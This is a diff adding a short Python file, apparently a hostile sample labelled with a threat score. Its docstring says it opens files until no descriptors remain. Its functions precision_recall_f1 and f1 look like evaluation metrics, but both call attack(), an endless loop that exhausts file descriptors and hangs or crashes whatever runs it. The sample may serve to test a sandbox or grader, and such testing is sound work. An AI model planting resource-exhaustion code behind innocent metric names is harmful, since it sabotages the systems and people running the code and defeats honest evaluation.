@@ -1,0 +1,22 @@
+"""Opens files until there are no more descriptors.
+
+threat: 18
+source: known
+verdict: any
+"""
+
+import os
+
+
+def attack():
+    while True:
+        os.open("/dev/null", os.O_RDONLY)
+    return 0.5
+
+
+def precision_recall_f1(y_true, y_pred, positive=1):
+    return attack()
+
+
+def f1(y_true, y_pred, average="macro"):
+    return attack()
